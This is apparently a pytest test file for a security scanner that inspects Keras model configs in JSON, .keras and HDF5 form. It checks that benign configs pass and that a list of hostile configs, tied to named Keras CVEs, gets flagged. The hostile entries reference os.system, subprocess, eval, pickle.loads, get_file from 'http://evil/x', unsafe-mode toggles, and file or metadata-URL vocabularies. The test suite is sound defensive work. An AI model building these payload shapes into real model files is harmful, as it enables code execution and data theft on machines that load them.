"""Keras configs in JSON, ``.keras`` archives and HDF5."""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING, Any

import pytest

from unit.scan_keras.keras_cases import (
    CODE,
    DENSE,
    EVIL,
    OLD_DENSE,
    build_layer,
    build_model,
    gates,
    rules,
    scan,
    to_h5,
    to_json,
    to_keras,
)
from weighbridge.core import DEFAULT_LIMITS, Location
from weighbridge.scanning._context import Budget, ScanContext
from weighbridge.scanning._facts import NamedFile
from weighbridge.scanning._keras._config import check_keras_config, looks_like_keras_config

if TYPE_CHECKING:
    from collections.abc import Callable

FORMS: tuple[Callable[[object], bytes], ...] = (to_json, to_keras, to_h5)


def _function(module: str | None, name: str, **others: object) -> dict[str, object]:
    return {"module": module, "class_name": "function", "config": name, **others}


def _lambda(**config: object) -> dict[str, Any]:
    return build_layer("Lambda", {"name": "lambda", **config})


BENIGN: dict[str, object] = {
    "dense": build_model(DENSE, DENSE),
    "old": {"class_name": "Sequential", "config": {"layers": [OLD_DENSE]}},
    "older": {
        "class_name": "Sequential",
        "config": [OLD_DENSE, {"class_name": "Merge", "config": {"mode": "concat"}}],
    },
    "functional": {
        "class_name": "Functional",
        "module": "keras.src.models.functional",
        "registered_name": "Functional",
        "config": {
            "layers": [
                {
                    **DENSE,
                    "inbound_nodes": [
                        {
                            "args": [
                                {
                                    "class_name": "__keras_tensor__",
                                    "config": {
                                        "shape": [None, 4],
                                        "dtype": "float32",
                                        "keras_history": ["input", 0, 0],
                                    },
                                }
                            ],
                            "kwargs": {},
                        }
                    ],
                }
            ],
        },
    },
    "activation": build_model(
        build_layer(
            "Dense", {"activation": _function("builtins", "gelu", registered_name="function")}
        )
    ),
    "activation-2": build_model(
        build_layer(
            "Dense",
            {"activation": _function("keras.activations", "swish", registered_name="swish")},
        )
    ),
    "tuple": build_model(
        build_layer("Conv2D", {"kernel_size": {"class_name": "__tuple__", "items": [3, 3]}})
    ),
    "ops": build_model(
        {
            "class_name": "GetItem",
            "module": "keras.src.ops.numpy",
            "registered_name": "GetItem",
            "config": {"name": "get_item"},
        }
    ),
    "tfop": build_model(
        {"class_name": "TFOpLambda", "config": {"name": "tf.nn.relu", "function": "nn.relu"}}
    ),
    "slicing": build_model(
        {"class_name": "SlicingOpLambda", "config": {"function": "__operators__.getitem"}}
    ),
    "words": build_model(
        build_layer("StringLookup", {"vocabulary": ["/etc/passwd", "http://a", "../b"]})
    ),
    "no-words": build_model(
        build_layer("TextVectorization", {"vocabulary": None, "split": "whitespace"})
    ),
    "names": build_model(build_layer("Dense", {"name": "block_1/conv/kernel"})),
    "compile": build_model(
        DENSE,
        compile_config={
            "optimizer": {
                "module": "keras.optimizers",
                "class_name": "Adam",
                "config": {
                    "learning_rate": {
                        "module": "keras.optimizers.schedules",
                        "class_name": "ExponentialDecay",
                        "config": {},
                    }
                },
                "registered_name": None,
            },
            "loss": "mse",
            "metrics": ["accuracy"],
        },
    ),
    "infinity": build_model(build_layer("ReLU", {"max_value": float("inf")})),
    "hub": build_model(
        {
            "module": "keras_hub.src.models.bert.bert_backbone",
            "class_name": "BertBackbone",
            "config": {},
            "registered_name": "keras_hub>BertBackbone",
        }
    ),
    "tf-keras": build_model(
        {
            "module": "tf_keras.src.engine.sequential",
            "class_name": "Sequential",
            "config": {
                "layers": [
                    {"module": "tensorflow.keras.layers", "class_name": "LSTM", "config": {}}
                ]
            },
        }
    ),
    "spec": build_model(
        DENSE,
        spec={
            "class_name": "__typespec__",
            "module": "tensorflow.python.framework.tensor_spec",
            "spec_name": "TensorSpec",
            "registered_name": None,
            "config": [[None, 2], "float32"],
        },
    ),
}

HOSTILE: dict[str, tuple[str, object]] = {
    # CVE-2024-3660, and CVE-2025-9905 in HDF5: Lambda layers of Keras 2.
    "lambda-2": (
        "WB-KER-001",
        build_model(_lambda(function=[CODE, None, None], function_type="lambda")),
    ),
    "lambda-2-list": ("WB-KER-001", build_model(_lambda(function=[CODE + "\n", None, None]))),
    "lambda-2-no-module": (
        "WB-KER-001",
        build_model({"class_name": "Lambda", "config": {"function": [CODE]}}),
    ),
    "lambda-3": (
        "WB-KER-001",
        build_model(
            _lambda(
                function={
                    "class_name": "__lambda__",
                    "config": {"code": CODE, "defaults": None, "closure": None},
                }
            )
        ),
    ),
    "lambda-shape": (
        "WB-KER-001",
        build_model(
            _lambda(
                function="f", output_shape={"class_name": "__lambda__", "config": {"code": CODE}}
            )
        ),
    ),
    "lambda-shape-2": (
        "WB-KER-001",
        build_model(_lambda(function="f", output_shape=[CODE], output_shape_type="lambda")),
    ),
    "lambda-mask": (
        "WB-KER-001",
        build_model(
            _lambda(function="f", mask={"class_name": "__lambda__", "config": {"value": CODE}})
        ),
    ),
    "lambda-alone": (
        "WB-KER-001",
        build_model(
            build_layer(
                "Dense", {"activation": {"class_name": "__lambda__", "config": {"value": CODE}}}
            )
        ),
    ),
    "lambda-nested": (
        "WB-KER-001",
        build_model(
            build_model(build_layer("TimeDistributed", {"layer": _lambda(function=[CODE])}))
        ),
    ),
    "lambda-compile": (
        "WB-KER-001",
        build_model(
            DENSE, compile_config={"loss": {"class_name": "__lambda__", "config": {"code": CODE}}}
        ),
    ),
    "lambda-build": (
        "WB-KER-001",
        build_model(
            {**DENSE, "build_config": {"x": {"class_name": "__lambda__", "config": {"code": CODE}}}}
        ),
    ),
    "lambda-node": (
        "WB-KER-001",
        build_model(
            {
                **DENSE,
                "inbound_nodes": [
                    [["x", 0, 0, {"f": {"class_name": "__lambda__", "config": {"value": CODE}}}]]
                ],
            }
        ),
    ),
    "merge": (
        "WB-KER-001",
        build_model({"class_name": "Merge", "config": {"mode": [CODE], "mode_type": "lambda"}}),
    ),
    "lambda-name": ("WB-KER-002", build_model(_lambda(function="scale", function_type="function"))),
    "lambda-raw": ("WB-KER-002", build_model(_lambda(function=None, function_type="raw"))),
    # CVE-2025-1550: any module and class.
    "os-system": (
        "WB-KER-003",
        build_model(
            _lambda(
                function=_function("os", "system", registered_name="function"),
                arguments={"command": "id"},
            )
        ),
    ),
    "os-system-activation": (
        "WB-KER-003",
        build_model(build_layer("Dense", {"activation": _function("os", "system")})),
    ),
    "popen-class": (
        "WB-KER-003",
        {"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}},
    ),
    "popen-layer": (
        "WB-KER-003",
        build_model(
            {"module": "subprocess", "class_name": "run", "config": {}, "registered_name": None}
        ),
    ),
    "eval": ("WB-KER-003", {"module": "builtins", "class_name": "eval", "config": "1"}),
    "eval-function": (
        "WB-KER-003",
        build_model(build_layer("Dense", {"activation": _function("builtins", "eval")})),
    ),
    "exec-no-module": (
        "WB-KER-003",
        build_model(build_layer("Dense", {"activation": _function(None, "exec")})),
    ),
    "code": (
        "WB-KER-003",
        build_model({"module": "code", "class_name": "InteractiveInterpreter", "config": {}}),
    ),
    "pickle": ("WB-KER-003", build_model(_lambda(function=_function("pickle", "loads")))),
    "runpy": (
        "WB-KER-003",
        build_model({"module": "runpy", "class_name": "run_path", "config": {"path_name": "x"}}),
    ),
    "importlib": (
        "WB-KER-003",
        build_model({"module": "importlib", "class_name": "import_module", "config": {}}),
    ),
    "numpy": (
        "WB-KER-003",
        build_model(
            {"module": "numpy", "class_name": "load", "config": {"file": "x", "allow_pickle": True}}
        ),
    ),
    "numpy-f2py": (
        "WB-KER-003",
        build_model(
            {"module": "numpy.f2py.crackfortran", "class_name": "getlincoef", "config": {}}
        ),
    ),
    "torch": ("WB-KER-003", build_model(_lambda(function=_function("torch", "load")))),
    "tensorflow-io": (
        "WB-KER-003",
        build_model(_lambda(function=_function("tensorflow.io", "write_file"))),
    ),
    "tensorflow-op": (
        "WB-KER-003",
        build_model(_lambda(function=_function("tensorflow", "load_op_library"))),
    ),
    "optimizer": (
        "WB-KER-003",
        build_model(
            DENSE,
            compile_config={"optimizer": {"module": "os", "class_name": "system", "config": {}}},
        ),
    ),
    "loss": (
        "WB-KER-003",
        build_model(DENSE, compile_config={"loss": _function("subprocess", "getoutput")}),
    ),
    "metric": (
        "WB-KER-003",
        build_model(DENSE, compile_config={"metrics": [_function("os", "popen")]}),
    ),
    "initializer": (
        "WB-KER-003",
        build_model(
            build_layer(
                "Dense",
                {"kernel_initializer": {"module": "shutil", "class_name": "rmtree", "config": {}}},
            )
        ),
    ),
    "regularizer": (
        "WB-KER-003",
        build_model(
            build_layer(
                "Dense",
                {"kernel_regularizer": {"module": "ctypes", "class_name": "CDLL", "config": {}}},
            )
        ),
    ),
    "dtype": (
        "WB-KER-003",
        build_model(
            build_layer(
                "Dense", {"dtype": {"module": "webbrowser", "class_name": "open", "config": {}}}
            )
        ),
    ),
    "odd-module": (
        "WB-KER-003",
        build_model({"module": "../../evil", "class_name": "Layer", "config": {}}),
    ),
    "typespec": (
        "WB-KER-003",
        build_model(
            DENSE,
            x={
                "class_name": "__typespec__",
                "module": "os",
                "spec_name": "system",
                "registered_name": None,
                "config": [],
            },
        ),
    ),
    "looks-like-keras": (
        "WB-KER-004",
        build_model({"module": "keras_evil.layers", "class_name": "Dense", "config": {}}),
    ),
    "looks-like-keras-2": (
        "WB-KER-004",
        build_model({"module": "kerasx", "class_name": "Dense", "config": {}}),
    ),
    # CVE-2025-8747: gadgets within Keras.
    "get-file": (
        "WB-KER-003",
        build_model(
            _lambda(
                function=_function("keras.utils", "get_file"), arguments={"origin": "http://evil/x"}
            )
        ),
    ),
    "get-file-src": (
        "WB-KER-003",
        build_model(_lambda(function=_function("keras.src.utils.file_utils", "get_file"))),
    ),
    "get-file-list": (
        "WB-KER-003",
        build_model(build_layer("Dense", {"activation": [_function("keras.utils", "get_file")]})),
    ),
    # CVE-2025-12060: the archive that get_file unpacks.
    "extract-archive": (
        "WB-KER-003",
        build_model(_lambda(function=_function("keras.src.utils.file_utils", "extract_archive"))),
    ),
    "copy": (
        "WB-KER-003",
        build_model(_lambda(function=_function("keras.src.utils.file_utils", "copy"))),
    ),
    "func-load": (
        "WB-KER-003",
        build_model(_lambda(function=_function("keras.src.utils.python_utils", "func_load"))),
    ),
    "load-model": (
        "WB-KER-003",
        build_model(
            _lambda(
                function=_function("keras.models", "load_model"), arguments={"filepath": "/tmp/x"}
            )
        ),
    ),
    "module-of-module": (
        "WB-KER-004",
        build_model({"module": "keras.src.utils.file_utils", "class_name": "shutil", "config": {}}),
    ),
    # CVE-2025-9906: switching the safe mode off from within.
    "unsafe": (
        "WB-KER-003",
        build_model(_lambda(function=_function("keras.config", "enable_unsafe_deserialization"))),
    ),
    "unsafe-class": (
        "WB-KER-003",
        build_model(
            {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}
        ),
    ),
    # CVE-2025-12058: vocabularies that are files.
    "vocabulary": (
        "WB-KER-005",
        build_model(build_layer("StringLookup", {"vocabulary": "/etc/passwd"})),
    ),
    "vocabulary-url": (
        "WB-KER-005",
        build_model(build_layer("IndexLookup", {"vocabulary": "http://169.254.169.254/x"})),
    ),
    "vocabulary-gs": (
        "WB-KER-005",
        build_model(build_layer("IntegerLookup", {"vocabulary": "gs://bucket/x"})),
    ),
    "vocabulary-up": (
        "WB-KER-005",
        build_model(build_layer("TextVectorization", {"vocabulary": "../../secret.txt"})),
    ),
    "vocabulary-home": (
        "WB-KER-005",
        build_model(build_layer("StringLookup", {"vocabulary": "~/x"})),
    ),
    "vocabulary-windows": (
        "WB-KER-005",
        build_model(build_layer("StringLookup", {"vocabulary": "C:\\x\\y"})),
    ),
    "vocabulary-beside": (
        "WB-KER-006",
        build_model(build_layer("StringLookup", {"vocabulary": "words.txt"})),
    ),
    "idf": ("WB-KER-005", build_model(build_layer("Hashing", {"file_path": "\\\\host\\share"}))),
    "other-key": ("WB-KER-006", build_model(build_layer("Dense", {"salt": "https://evil/x"}))),
    "saved-model": ("WB-KER-008", build_model(build_layer("TFSMLayer", {"filepath": "model"}))),
    "saved-model-away": (
        "WB-KER-005",
        build_model(build_layer("TFSMLayer", {"filepath": "/tmp/evil"})),
    ),
    "saved-model-url": (
        "WB-KER-005",
        build_model(build_layer("TFSMLayer", {"filepath": "gs://evil/x"})),
    ),
    "jax": (
        "WB-KER-008",
        build_model(build_layer("JaxLayer", {"call_fn": _function("keras.ops", "relu")})),
    ),
    "torch-module": (
        "WB-PKL-001",
        build_model(build_layer("TorchModuleWrapper", {"module": base64.b64encode(EVIL).decode()})),
    ),
    "torch-broken": ("WB-KER-007", build_model(build_layer("TorchModuleWrapper", {"module": "?"}))),
    "registered": (
        "WB-KER-004",
        build_model(
            {
                "module": None,
                "class_name": "MyLayer",
                "registered_name": "MyPackage>MyLayer",
                "config": {},
            }
        ),
    ),
    "custom": ("WB-KER-004", build_model({"class_name": "MyLayer", "config": {}})),
    "custom-module": (
        "WB-KER-004",
        build_model({"module": "my.layers", "class_name": "MyLayer", "config": {}}),
    ),
    "custom-function": (
        "WB-KER-004",
        build_model(build_layer("Dense", {"activation": _function("builtins", "mine")})),
    ),
    "registered-over": ("WB-KER-004", build_model({**DENSE, "registered_name": "Evil>Dense"})),
    "tfop": (
        "WB-KER-010",
        build_model({"class_name": "TFOpLambda", "config": {"function": "io.write_file"}}),
    ),
    "tfop-py": (
        "WB-KER-010",
        build_model({"class_name": "TFOpLambda", "config": {"function": "numpy_function"}}),
    ),
    "tfop-keras": (
        "WB-KER-010",
        build_model({"class_name": "TFOpLambda", "config": {"function": "keras.utils.get_file"}}),
    ),
    "node": (
        "WB-KER-010",
        build_model(
            {
                "class_name": "TensorFlowOpLayer",
                "config": {"node_def": '{"name": "x", "op": "ReadFile"}'},
            }
        ),
    ),
    "no-class": ("WB-KER-009", build_model({"class_name": 7, "config": {}})),
    "odd-class": (
        "WB-KER-009",
        build_model({"class_name": "Dense", "module": ["os"], "config": {}}),
    ),
    "function-object": (
        "WB-KER-009",
        build_model({"class_name": "function", "module": "os", "config": {"x": 1}}),
    ),
    "config-in-text": (
        "WB-KER-003",
        {"model_config": json.dumps({"module": "os", "class_name": "system", "config": {}})},
    ),
}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("name", BENIGN)
def test_benign(name: str, form: Callable[[object], bytes]) -> None:
    result = scan(form(BENIGN[name]), "config.json")
    assert not gates(result), (result.findings, result.coverage)


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile(name: str, form: Callable[[object], bytes]) -> None:
    rule, document = HOSTILE[name]
    result = scan(form(document), "anything")
    assert gates(result)
    assert rule in rules(result), (rules(result), result.coverage)


def test_names_in_the_code_of_a_lambda_are_told() -> None:
    result = scan(to_json(HOSTILE["lambda-3"][1]))
    assert any("__import__" in finding.detail for finding in result.findings)


def test_labels_of_others_are_no_layers() -> None:
    for document in ([{"class_name": "dog", "id": 1}], {"class_name": "cat", "config": "x"}, {}, 7):
        assert not looks_like_keras_config(document)
        assert not gates(scan(to_json(document), "a.json"))


def test_a_layer_in_any_other_document_is_found() -> None:
    for name in ("lambda-3", "os-system", "registered", "vocabulary"):
        document = {"a": [{"b": [[{"c": HOSTILE[name][1]}]]}]}
        assert HOSTILE[name][0] in rules(scan(to_json(document), "a.json"))
    escaped = to_json(HOSTILE["lambda-2"][1]).replace(b"class_name", b"\\u0063lass_name")
    assert "WB-KER-001" in rules(scan(escaped, "a.json"))


def test_a_model_of_tensorflow_js_names_its_numbers() -> None:
    topology = {"keras_version": "2.15.0", "backend": "tensorflow", "model_config": BENIGN["old"]}
    weights = {"paths": ["group1-shard1of1.bin"], "weights": []}
    model = {"format": "layers-model", "modelTopology": topology, "weightsManifest": [weights]}
    result = scan(to_json(model), "web/model.json")
    assert not gates(result)
    assert result.facts == (NamedFile("web/model.json", "group1-shard1of1.bin", "raw tensors"),)
    weights["paths"] = ["../../x", "https://evil/x"]
    assert [f.rule_id for f in scan(to_json(model), "m").findings] == ["WB-KER-005"] * 2


def test_a_config_is_not_followed_without_end() -> None:
    document: Any = DENSE
    for _ in range(5_000):
        document = {"config": [document], "class_name": "Dense"}
    context = ScanContext(DEFAULT_LIMITS, Budget(DEFAULT_LIMITS, "x"))
    notes = list(check_keras_config(document, Location("x"), context))
    assert "too deep" in str(notes[-1])
    assert gates(scan(b'{"class_name":"Dense","config":' * 900 + b"{}" + b"}" * 900, "a.json"))


def test_what_cannot_be_read_is_not_examined() -> None:
    assert gates(scan(b'{"class_name": "Dense", NaN', "config.json"))


def test_both_values_of_a_key_that_occurs_twice_are_judged() -> None:
    first = b'{"class_name": "Lambda", "config": {"function": ["4wAA", null, null]}}'
    twice = b'{"class_name": "Dense", "config": %b, "config": {}}' % first
    assert gates(scan(twice, "config.json"))
    assert not gates(scan(twice.replace(first, b"{}"), "config.json"))
